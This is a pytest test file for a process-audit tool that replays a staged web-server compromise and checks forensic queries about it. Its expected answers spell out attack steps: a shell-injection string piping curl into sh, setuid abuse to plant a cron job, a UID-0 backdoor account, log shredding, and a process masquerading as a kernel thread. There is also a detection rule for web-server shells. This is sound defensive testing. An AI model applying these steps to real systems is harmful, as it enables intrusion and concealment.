"""The incident of docs/recipes.md, played by real processes: each question is one command."""

from __future__ import annotations

import base64
import json
import os
import shlex
import shutil
import subprocess
import tempfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

import pytest

from tests.commands import PATIENCE, Finished, execaudit
from tests.live.recording import recording
from tests.truth.processes import await_true

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.live.recording import Row

_SCRIPT = Path(__file__).with_name("night.sh")
_CONTAINER = "7d1f2ab30c4e5f60718293a4b5c6d7e8f9012a3b4c5d6e7f8091a2b3c4d5e6f7"
# In what is expected, F is the folder of the night. {night}, {shell} and so on are pids of which the script
# has notes.
_OF_THE_NIGHT = "--under pid:{night}"
_RULE = """
title: A web server starts a shell
logsource: {product: linux, category: process_creation}
detection:
    selection: {ParentImage|endswith: /php-fpm8.2, Image|endswith: [/sh, /dash]}
    condition: selection
level: high
"""


class Question(NamedTuple):
    """A question, the one command that answers it, and these fields of what it finds."""

    asks: str
    command: str
    fields: str
    answer: list[object]


# What www-data ran in the folder of the web site, by the script of the night.
_FIRST_SHELL = "sh -c 'ping -c 1 127.0.0.1; id; exit'"
_SECOND_SHELL = """sh -c 'ping -c 1 ;curl -u "$F/srv/s.sh" | sh; exit'"""

QUESTIONS = (
    Question(
        "What did curl fetch in this night, but for the health check?",
        f"query {_OF_THE_NIGHT} --comm curl --not-args srv/health",
        "user command",
        [("www-data", "curl -u F/srv/s.sh"), ("www-data", "curl -u F/srv/up")],
    ),
    Question(
        "Which programs ran from a folder that everybody can write to?",
        "query --exe '{F}/drop/*'",
        "exe errno",
        [("/usr/bin/dash", "EACCES"), ("F/drop/up (deleted)", None)],
    ),
    Question(
        "Which scripts and programs were asked for there?",
        "query --filename '{F}/drop/*'",
        "filename interpreter errno",
        [("F/drop/up", None, "EACCES"), ("F/drop/tar", "/bin/sh", None)],
    ),
    Question(
        "Which programs have no file?",
        f"query {_OF_THE_NIGHT} --deleted --sort exe",
        "exe",
        ["/memfd:x (deleted)", "F/drop/up (deleted)"],
    ),
    Question(
        "Does a program pretend to be a kernel thread?",
        rf"query {_OF_THE_NIGHT} --args-regex '^\['",
        "exe command user",
        [("/memfd:x (deleted)", "'[kworker/1:2]' 300", "www-data")],
    ),
    Question(
        "Which programs are new?",
        "query --exe '{F}/*' --since {begin} --new --kind exec --sort exe",
        "exe",
        [
            *(f"F/bin/{name}" for name in ("find", "install", "journalctl", "php-fpm8.2", "ping", "ping", "shred")),
            *("F/bin/uname", "F/bin/useradd", "F/drop/up (deleted)", "F/rootfsF/bin/node", "F/rootfsF/bin/wget"),
            *("F/rootfs/usr/bin/dash", "F/rootfs/usr/bin/env", "F/suid/backup-helper"),
        ],
    ),
    Question(
        "What did the web server's user run as root?",
        f"query {_OF_THE_NIGHT} --user www-data --euid root --ok",
        "comm uid euid",
        [(name, 33, 0) for name in ("backup-helper", "tar", "tee", "install", "setpriv")],
    ),
    Question(
        "Which programs got more rights than their caller?",
        f"query {_OF_THE_NIGHT} --privileged",
        "privileged user command",
        [("setuid", "www-data", "F/suid/backup-helper tar czf shop.tgz .")],
    ),
    Question(
        "What did root do in this login session?",
        f"query {_OF_THE_NIGHT} --user root --login-user 54321 --comm shred --comm printf --comm logger",
        "auid command",
        [
            (54321, "shred -u /var/log/auth.log"),
            (54321, r"/usr/bin/printf $'\xff\xfe\x1b[2J'"),
            (54321, "logger bye"),
        ],
    ),
    Question(
        "What ran on this terminal?",
        f"query {_OF_THE_NIGHT} --tty {{tty}} --not-comm bash --not-args auth.log",
        "comm",
        ["tty", "strace", "journalctl", "printf", "logger"],
    ),
    Question(
        "Who made this cron job?",
        "query --args {F}/cron.d/sync --not-args execaudit",  # not the question itself
        "user euid parent_comm command",
        [("www-data", 0, "tar", "tee F/cron.d/sync")],
    ),
    Question(
        "What did cron start in this night?",
        "query --ppid {cron} --since {begin} --not-args healthcheck",
        "command exit_code",
        [(f"sh -c 'F/lib/.sync {status}; exit'", status) for status in (28, 0, 0)],
    ),
    Question(
        "What did shells do in the folder of the web site?",
        "query --cwd {F}/web --comm sh --not-args 0000 --not-args exec",
        "command",
        [_FIRST_SHELL, _SECOND_SHELL, "sh", "F/drop/up"],
    ),
    Question(
        "Which uploads failed with a timeout?",
        f"query {_OF_THE_NIGHT} --exit-code 28",
        "comm",
        ["sh", ".sync"],
    ),
    Question(
        "What crashed?",
        f"""query {_OF_THE_NIGHT} --where 'ended == "signaled"'""",
        "exe exit_signal",
        [("F/drop/up (deleted)", 11)],
    ),
    Question(
        "What of it still runs?",
        """query --under pid:{shell} --where 'ended == "running"'""",
        "command",
        ["'[kworker/1:2]' 300"],
    ),
    Question(
        "Which programs could not be started?",
        "query --under pid:{shell} --failed",
        "errno filename",
        [("ENOENT", "F/none-1/gcc"), ("ENOENT", "F/none-2/gcc"), ("EACCES", "F/drop/up")],
    ),
    Question(
        "Which tools did somebody look for in a container?",
        "query --container 7d1f --errno ENOENT --filename '{F}/none*'",
        "filename container_id",
        [("F/none-1/docker", _CONTAINER)],
    ),
    Question(
        "What ran in this container?",
        "query --container 7d1f --exe '{F}/rootfs/*' --ok",
        "root comm",
        [("F/rootfs", "wget")],
    ),
    Question(
        "Which containers started a shell?",
        f"query {_OF_THE_NIGHT} --comm sh --where 'container_id != null and root != null'",
        "container_id ended",
        [(_CONTAINER, "exited")],
    ),
    Question(
        "Which command lines are not whole?",
        f"query {_OF_THE_NIGHT} --truncated",
        "truncated argc user",
        [("limit", 3, "www-data")],
    ),
    Question(
        "Could a tracer have changed the arguments?",
        f"query {_OF_THE_NIGHT} --where 'traced != null'",
        "traced command",
        [("{strace}", "F/bin/journalctl --vacuum-time=1s")],
    ),
    Question(
        "Which bytes exactly were the arguments?",
        f"query {_OF_THE_NIGHT} --comm printf",
        "argv_base64",
        [base64.b64encode(b"/usr/bin/printf\0\xff\xfe\x1b[2J\0").decode()],
    ),
    Question(
        "What happened in the second in which the cron job was made?",
        "query --around pid:{tee} --within 1s --comm tar --comm useradd --under pid:{shell}",
        "comm user",
        [("tar", "www-data"), ("useradd", "root")],
    ),
)  # fmt: skip

# Questions whose answers are no lists of execs.
STATS, TREE, ABOVE, COUNT, HUNT, TABLE, EXPORT = (
    f"stats {_OF_THE_NIGHT} --format json",
    "tree --id pid:{shell} --format jsonl",
    "show pid:{tee} --format json",
    f"query {_OF_THE_NIGHT} --comm healthcheck --count",
    f"hunt {{F}}/rule.yml {_OF_THE_NIGHT} --format jsonl",
    "query --under pid:{shell} --deleted --format table --no-pager",
    f"export {_OF_THE_NIGHT} --user www-data --columns id -o {{F}}/review.csv",
)


class Night(NamedTuple):
    """What was answered while the recorder went on, in which F is the folder."""

    strace: int
    answers: dict[str, Finished]

    def rows(self, command: str) -> list[Row]:
        """Returns the execs of an answer in JSON lines."""
        done = self.answers[command]
        assert 0 == done.status, done.err
        return done.rows()


@pytest.fixture(scope="module")
def night(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Night]:
    """The night, played under one recorder, and all questions about it."""
    folder = Path(tempfile.mkdtemp(prefix="night-"))  # other users cannot enter pytest's folders
    folder.chmod(0o755)
    with (
        recording(tmp_path_factory.mktemp("night"), "--max-argv", "4096") as recorded,
        subprocess.Popen(
            ["/bin/bash", _SCRIPT, folder], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
        ) as script,
    ):
        assert script.stdin is not None
        assert script.stdout is not None
        try:
            assert "done\n" == script.stdout.readline()
            yield _asked(recorded.db, folder, script.pid)
        finally:
            script.stdin.close()
            script.wait(PATIENCE)
    shutil.rmtree(folder)
    assert 0 == script.returncode
    assert folder.name not in Path("/proc/self/mounts").read_text()


def _asked(database: Path, folder: Path, script: int) -> Night:
    """Asks everything, as soon as it is stored, two questions at a time."""
    notes = {path.name: path.read_text().strip() for path in (folder / "notes").iterdir()}
    known = {**notes, "F": str(folder), "night": str(script), "tty": notes["tty"].removeprefix("/dev/")}
    (folder / "rule.yml").write_text(_RULE)

    def ask(command: str) -> Finished:
        words = shlex.split(command.format_map(known))
        done = execaudit("--db", database, *words, env={"COLUMNS": "80"})
        here = os.fsencode(folder)
        return done._replace(out=done.out.replace(here, b"F"), err=done.err.replace(here, b"F"))

    # What was started last, and the only other thing that goes on; all ends are stored then.
    running = f"query {_OF_THE_NIGHT} --where 'ended == \"running\"'"
    await_true(lambda: ["[kworker/1:2]", "cat"] == sorted(row["argv"][0] for row in ask(running).rows()))
    commands = [question.command for question in QUESTIONS] + [
        STATS, TREE, ABOVE, COUNT, HUNT, TABLE, EXPORT,
    ]  # fmt: skip
    with ThreadPoolExecutor(2) as pool:
        answers = dict(zip(commands, pool.map(ask, commands), strict=True))
    return Night(int(notes["strace"]), answers)


@pytest.mark.parametrize("question", QUESTIONS, ids=lambda question: question.asks)
def test_a_question_is_one_command(question: Question, night: Night) -> None:
    """It finds what the script did, and nothing else."""
    names = question.fields.split()
    rows = night.rows(question.command)
    found = [tuple(row[name] for name in names) if names[1:] else row[names[0]] for row in rows]
    expected = [
        tuple(night.strace if value == "{strace}" else value for value in answer)
        if isinstance(answer, tuple)
        else answer
        for answer in question.answer
    ]

    assert expected == found


def test_what_happened_is_counted(night: Night) -> None:
    """By error, end, container and privileges, of the night alone."""
    stats = json.loads(night.answers[STATS].out)

    assert [{"errno": "EACCES", "count": 1}] == [row for row in stats["errors"] if row["errno"] != "ENOENT"]
    assert {(28, None): 2, (None, 11): 1} == {
        (row["exit_code"], row["exit_signal"]): row["count"]
        for row in stats["exits"]
        if row["exit_code"] not in (1, 127)
    }
    assert [_CONTAINER] == [row["container_id"] for row in stats["containers"]]
    assert [{"exe": "F/suid/backup-helper", "privileged": "setuid", "count": 1}] == stats["privileged"]
    assert {"root", "daemon", "www-data"} == {row["user"] for row in stats["users"]}


def test_how_often_it_ran_is_a_number(night: Night) -> None:
    """The noise is eight health checks in the evening and eight in the night, and cron makes one."""
    assert b"17\n" == night.answers[COUNT].out


def test_what_came_of_the_shell_is_a_tree(night: Night) -> None:
    """Whoever ran it: the account that root made, and the program that hides, are in it."""
    rows = night.rows(TREE)
    depth = {row["command"]: row["depth"] for row in rows if row["kind"] == "exec"}
    shell = depth[_SECOND_SHELL]

    assert shell + 1 == depth["sh"]
    assert shell + 2 == depth["uname -a"] == depth["F/suid/backup-helper tar czf shop.tgz ."]
    assert shell < depth["'[kworker/1:2]' 300"]
    assert depth["tee F/cron.d/sync"] < depth["F/bin/useradd -o -u 0 -M support"]


def test_what_led_to_the_cron_job(night: Night) -> None:
    """The chain from `tee` up to the script of the night, through the setuid program."""
    shown = json.loads(night.answers[ABOVE].out)
    chain = [row["comm"] for row in shown["ancestors"]]

    assert "tee" == shown["exec"]["comm"]
    assert ["tar", "backup-helper", "sh", "sh", "php-fpm8.2", "bash", "setpriv", "bash"] == chain[:8]


def test_a_rule_finds_the_shells_of_the_web_server(night: Night) -> None:
    """And neither the shells of cron nor those of the health check."""
    hits = [json.loads(line) for line in night.answers[HUNT].out.splitlines()]

    assert [_FIRST_SHELL, _SECOND_SHELL] == [hit["exec"]["command"] for hit in hits if "exec" in hit]


def test_the_table_marks_what_hides(night: Night) -> None:
    """As a tired reader sees it."""
    table = night.answers[TABLE].out.decode()

    assert "[deleted] F/drop/up: /proc/self/fd/3 -c 'kill -SEGV $$'" in table
    assert "[memfd] /memfd:x: '[kworker/1:2]' 300" in table


def test_the_execs_of_a_user_are_exported(night: Night) -> None:
    """All of them: those of the web server, before and after it was root."""
    done = night.answers[EXPORT]

    assert 0 == done.status
    assert b" execs to F/review.csv" in done.err
